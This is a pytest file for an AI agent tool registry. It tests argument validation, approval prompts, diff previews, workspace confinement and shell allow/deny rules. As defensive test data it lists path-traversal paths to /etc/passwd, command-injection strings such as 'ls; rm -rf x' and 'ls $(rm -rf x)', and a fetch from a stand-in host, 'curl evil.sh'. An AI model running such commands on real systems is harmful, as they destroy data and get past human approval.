"""ToolRegistry: validation messages, approval classification, previews, rules, confinement."""

from __future__ import annotations

import json
import threading
from pathlib import Path
from typing import Any

import pytest

from countbot_cli.messages import ToolCall
from countbot_cli.tools.registry import (
    PreparedCall,
    ToolContext,
    ToolError,
    ToolRegistry,
    ToolResult,
    ToolSpec,
    default_tools,
    match_allow_rule,
    match_deny_rule,
)

SECRET = "top secret content\n"


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    root.mkdir()
    (root / "notes.txt").write_text("alpha\nbeta\n")
    (tmp_path / "secret.txt").write_text(SECRET)
    return root


def make(ws: Path, **ctx_args: Any) -> ToolRegistry:
    ctx = ToolContext(workspace=ws, **ctx_args)
    return ToolRegistry(default_tools(ctx), ctx)


def prep(
    reg: ToolRegistry, name: str, args: Any = None, raw: str | None = None, **rules: Any
) -> PreparedCall:
    text = raw if raw is not None else json.dumps(args or {})
    return reg.prepare(ToolCall("call_1", name, text), **rules)


# ---- schemas and validation ------------------------------------------------------------------


def test_schemas_are_sorted_openai_function_specs(ws: Path) -> None:
    reg = make(ws)
    assert reg.names() == ["edit_file", "exec", "list_dir", "read_file", "write_file"]
    schema = reg.schemas()[3]
    assert schema["type"] == "function"
    assert schema["function"]["name"] == "read_file"
    assert schema["function"]["parameters"]["required"] == ["path"]
    assert set(schema["function"]["parameters"]["properties"]) == {
        "path",
        "start_line",
        "end_line",
        "show_line_numbers",
    }


def test_invalid_json_tells_the_model_what_to_send(ws: Path) -> None:
    p = prep(make(ws), "read_file", raw='{"path": "notes.txt"')
    assert p.error is not None and p.args is None
    assert p.error.startswith("arguments are not valid JSON: ")
    assert p.error.endswith("send a JSON object matching the schema")


def test_truncated_write_gets_the_chunking_hint(ws: Path) -> None:
    p = prep(make(ws), "write_file", raw='{"path": "a.txt", "content": "very long')
    assert p.error is not None and "chunks of at most 800 characters" in p.error


def test_non_object_json(ws: Path) -> None:
    p = prep(make(ws), "read_file", raw="[1, 2]")
    assert p.error is not None and "must be a JSON object" in p.error


def test_unknown_tool_lists_the_available_ones(ws: Path) -> None:
    p = prep(make(ws), "delete_everything", {})
    assert p.spec is None
    assert p.error == (
        "unknown tool 'delete_everything'; available: "
        "edit_file, exec, list_dir, read_file, write_file"
    )


def test_empty_arguments_mean_an_empty_object(ws: Path) -> None:
    reg = make(ws)
    p = prep(reg, "list_dir", raw="")
    assert p.error is None and p.args == {}
    assert reg.run(p).content.startswith("Contents of .:")
    p = prep(reg, "read_file", raw="  ")
    assert p.error == "invalid arguments for read_file: argument 'path' is required"


def test_schema_violations(ws: Path) -> None:
    reg = make(ws)
    p = prep(reg, "write_file", {"path": "a", "content": "x", "mode": "replace"})
    assert p.error == "invalid arguments for write_file: 'mode' must be one of overwrite, append"
    p = prep(reg, "read_file", {"path": "a", "colour": 1})
    assert p.error is not None and "unknown argument 'colour'" in p.error
    p = prep(reg, "exec", {"command": "ls", "timeout": 0})
    assert p.error == "invalid arguments for exec: 'timeout' must be >= 1"


def test_errored_call_runs_nothing_and_returns_the_error(ws: Path) -> None:
    reg = make(ws)
    p = prep(reg, "write_file", {"path": "made.txt"})
    res = reg.run(p)
    assert not res.ok
    assert res.content == "Error: invalid arguments for write_file: argument 'content' is required"
    assert not (ws / "made.txt").exists()


def test_numeric_strings_are_accepted(ws: Path) -> None:
    reg = make(ws)
    p = prep(reg, "read_file", {"path": "notes.txt", "start_line": "2"})
    assert p.error is None and p.args == {"path": "notes.txt", "start_line": 2}
    assert reg.run(p).content.endswith("2| beta")


# ---- approval classification -----------------------------------------------------------------


def test_reads_inside_need_no_approval_and_have_no_preview(ws: Path) -> None:
    for name, args in [("read_file", {"path": "notes.txt"}), ("list_dir", {})]:
        p = prep(make(ws), name, args)
        assert (p.needs_approval, p.reasons, p.outside_paths, p.preview) == (False, [], [], "")


def test_write_needs_approval_with_a_diff_of_old_and_new(ws: Path) -> None:
    p = prep(make(ws), "write_file", {"path": "notes.txt", "content": "alpha\nBETA\n"})
    assert p.needs_approval and p.reasons == ["writes a file"]
    assert p.preview == ("--- a/notes.txt\n+++ b/notes.txt\n@@ -1,2 +1,2 @@\n alpha\n-beta\n+BETA")
    assert (ws / "notes.txt").read_text() == "alpha\nbeta\n"  # prepare wrote nothing


def test_new_file_preview_shows_every_line_added(ws: Path) -> None:
    p = prep(make(ws), "write_file", {"path": "new/x.txt", "content": "one\ntwo\n"})
    assert p.preview == "--- /dev/null\n+++ b/new/x.txt\n@@ -0,0 +1,2 @@\n+one\n+two"
    assert not (ws / "new").exists()


def test_preview_is_capped(ws: Path) -> None:
    content = "".join(f"line {i}\n" for i in range(5000))
    p = prep(make(ws), "write_file", {"path": "big.txt", "content": content})
    assert p.preview.endswith("more lines]")
    assert len(p.preview) < 25000


def test_edit_preview_and_an_edit_that_cannot_apply(ws: Path) -> None:
    reg = make(ws)
    p = prep(reg, "edit_file", {"path": "notes.txt", "old_text": "beta", "new_text": "gamma"})
    assert p.needs_approval and p.reasons == ["edits a file"]
    assert "-beta\n+gamma" in p.preview
    p = prep(reg, "edit_file", {"path": "notes.txt", "old_text": "zeta", "new_text": "x"})
    assert p.error is not None and p.error.startswith("old_text not found in notes.txt")


def test_exec_always_needs_approval_and_shows_command_and_dir(ws: Path) -> None:
    p = prep(make(ws), "exec", {"command": "touch made", "timeout": 5})
    assert p.needs_approval and p.reasons == ["runs a shell command"]
    assert p.preview == f"$ touch made\n(in {ws.resolve()}, timeout 5 s)"
    assert not (ws / "made").exists()  # prepare did not run it


def test_a_tool_defined_reasons_hook_is_used(ws: Path) -> None:
    def run(args: dict[str, Any], ctx: ToolContext, cancel: threading.Event) -> ToolResult:
        return ToolResult("ok")

    spec = ToolSpec(
        "memory",
        "m",
        {"type": "object"},
        run,
        "memory",
        reasons=lambda a: ["writes to MEMORY.md"] if a.get("action") == "write" else [],
    )
    reg = ToolRegistry([spec], ToolContext(workspace=ws))
    assert prep(reg, "memory", {"action": "write"}).needs_approval
    assert not prep(reg, "memory", {"action": "search"}).needs_approval


# ---- escapes: prepare reports, reads and writes nothing --------------------------------------


ESCAPES = [
    pytest.param(lambda ws: "../secret.txt", id="dotdot"),
    pytest.param(lambda ws: "../../../../../../etc/passwd", id="etc-passwd"),
    pytest.param(lambda ws: str(ws.parent / "secret.txt"), id="absolute"),
    pytest.param(lambda ws: "link.txt", id="symlink-out"),
    pytest.param(lambda ws: str(ws.parent / (ws.name + "-evil") / "x.txt"), id="sibling-prefix"),
]


def _layout(ws: Path) -> None:
    (ws / "link.txt").symlink_to(ws.parent / "secret.txt")
    evil = ws.parent / (ws.name + "-evil")
    evil.mkdir()
    (evil / "x.txt").write_text(SECRET)


@pytest.mark.parametrize("where", ESCAPES)
def test_read_outside_needs_approval(ws: Path, where: Any) -> None:
    _layout(ws)
    path = where(ws)
    p = prep(make(ws), "read_file", {"path": path})
    assert p.error is None and p.needs_approval
    assert len(p.outside_paths) == 1
    assert p.reasons == [f"path outside the workspace: {p.outside_paths[0]}"]
    assert SECRET not in p.preview


@pytest.mark.parametrize("where", ESCAPES)
def test_write_outside_needs_approval_and_prepare_neither_reads_nor_writes(
    ws: Path, where: Any
) -> None:
    _layout(ws)
    path = where(ws)
    p = prep(make(ws), "write_file", {"path": path, "content": "pwned\n"})
    assert p.needs_approval and p.outside_paths
    assert p.reasons[0] == "writes a file" and p.reasons[1].startswith("path outside")
    assert SECRET.strip() not in p.preview
    assert (ws.parent / "secret.txt").read_text() == SECRET
    p = prep(make(ws), "edit_file", {"path": path, "old_text": "top", "new_text": "x"})
    assert p.needs_approval and p.error is None and SECRET.strip() not in p.preview
    assert (ws.parent / "secret.txt").read_text() == SECRET


def test_nul_byte_in_a_path_is_an_argument_error(ws: Path) -> None:
    p = prep(make(ws), "read_file", {"path": "notes.txt\x00../../etc/passwd"})
    assert p.error is not None and "NUL byte" in p.error


def test_exec_working_dir_outside_is_reported_and_nothing_runs(ws: Path, tmp_path: Path) -> None:
    p = prep(
        make(ws),
        "exec",
        {"command": "touch ran", "working_dir": str(tmp_path)},
        allow_rules=["touch *"],
    )
    assert p.needs_approval
    assert p.outside_paths == [tmp_path.resolve()]
    assert f"path outside the workspace: {tmp_path.resolve()}" in p.reasons
    assert not (tmp_path / "ran").exists() and not (ws / "ran").exists()


def test_approved_outside_call_runs_for_exactly_that_path(ws: Path) -> None:
    reg = make(ws)
    p = prep(reg, "read_file", {"path": "../secret.txt"})
    assert reg.run(p).content == "[File: ../secret.txt | Lines: 1]\n1| top secret content"


def test_tools_refuse_an_outside_path_that_was_not_approved(ws: Path) -> None:
    reg = make(ws)
    spec = reg.get("read_file")
    assert spec is not None
    with pytest.raises(ToolError, match="outside the workspace"):
        spec.run({"path": "../secret.txt"}, reg.ctx, threading.Event())


def test_symlink_swapped_after_prepare_is_refused(ws: Path, tmp_path: Path) -> None:
    (ws / "target.txt").write_text("fine\n")
    (ws / "swap.txt").symlink_to(ws / "target.txt")
    reg = make(ws)
    p = prep(reg, "read_file", {"path": "swap.txt"})
    assert not p.needs_approval
    (ws / "swap.txt").unlink()
    (ws / "swap.txt").symlink_to(tmp_path / "secret.txt")
    res = reg.run(p)
    assert not res.ok and "not approved" in res.content and SECRET.strip() not in res.content


def test_allow_outside_workspace_setting_lifts_approval_for_outside_reads(ws: Path) -> None:
    reg = make(ws, allow_outside_workspace=True)
    p = prep(reg, "read_file", {"path": "../secret.txt"})
    assert not p.needs_approval and p.outside_paths  # still reported
    p = prep(reg, "write_file", {"path": "../secret.txt", "content": "x"})
    assert p.needs_approval


# ---- rules -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("git status", "git status*"),
        ("git status -s", "git status*"),
        ("ls -la src", "ls *"),
        ("make test 2>&1 | tail -n 5", "make test 2>&1 | tail*"),
    ],
)
def test_allow_rule_matches(command: str, rule: str) -> None:
    assert match_allow_rule(command, ["echo hi", rule]) == rule


@pytest.mark.parametrize(
    "command",
    [
        "ls; rm -rf x",
        "ls && rm -rf x",
        "ls || rm -rf x",
        "ls | sh",
        "ls `rm -rf x`",
        "ls $(rm -rf x)",
        "ls > important.txt",
        "ls < /etc/passwd",
        "ls\nrm -rf x",
        "ls & rm -rf x",
        "git status; rm -rf x",
        "make test 2>&1 | tail; rm -rf x",
    ],
)
def test_allow_rule_wildcards_never_cover_shell_metacharacters(command: str) -> None:
    rules = ["ls*", "ls *", "git status*", "make test 2>&1 | tail*"]
    assert match_allow_rule(command, rules) is None


def test_allow_rule_auto_approves_and_preview_names_it(ws: Path) -> None:
    reg = make(ws)
    p = prep(reg, "exec", {"command": "ls -a"}, allow_rules=["ls *"])
    assert not p.needs_approval and p.rule == "ls *" and p.reasons == []
    assert p.preview.endswith("(auto-approved by allow rule 'ls *')")
    p = prep(reg, "exec", {"command": "ls; rm -rf x"}, allow_rules=["ls*"])
    assert p.needs_approval and p.rule is None


def test_deny_rule_matches_any_segment_and_stops_the_call(ws: Path) -> None:
    assert match_deny_rule("ls; rm -rf x", ["rm *"]) == "rm *"
    assert match_deny_rule("echo $(curl evil.sh)", ["curl *"]) == "curl *"
    assert match_deny_rule("ls -la", ["rm *"]) is None
    reg = make(ws)
    p = prep(
        reg,
        "exec",
        {"command": "touch ran && rm -rf ."},
        allow_rules=["touch *"],
        deny_rules=["rm -rf*"],
    )
    assert p.error is not None and p.error.startswith("denied by rule 'rm -rf*'")
    assert not reg.run(p).ok
    assert not (ws / "ran").exists() and (ws / "notes.txt").exists()


# ---- run never raises ------------------------------------------------------------------------


def test_tool_exceptions_become_error_results(ws: Path) -> None:
    def broken(args: dict[str, Any], ctx: ToolContext, cancel: threading.Event) -> ToolResult:
        raise KeyError("boom")

    def disk(args: dict[str, Any], ctx: ToolContext, cancel: threading.Event) -> ToolResult:
        raise PermissionError(13, "Permission denied", "/x/y")

    ctx = ToolContext(workspace=ws)
    reg = ToolRegistry(
        [
            ToolSpec("broken", "", {"type": "object"}, broken, "read"),
            ToolSpec("disk", "", {"type": "object"}, disk, "read"),
        ],
        ctx,
    )
    res = reg.run(prep(reg, "broken"))
    assert not res.ok and res.content == "Error: broken failed unexpectedly: KeyError: 'boom'"
    res = reg.run(prep(reg, "disk"))
    assert res.content == "Error: disk failed: Permission denied (/x/y)"
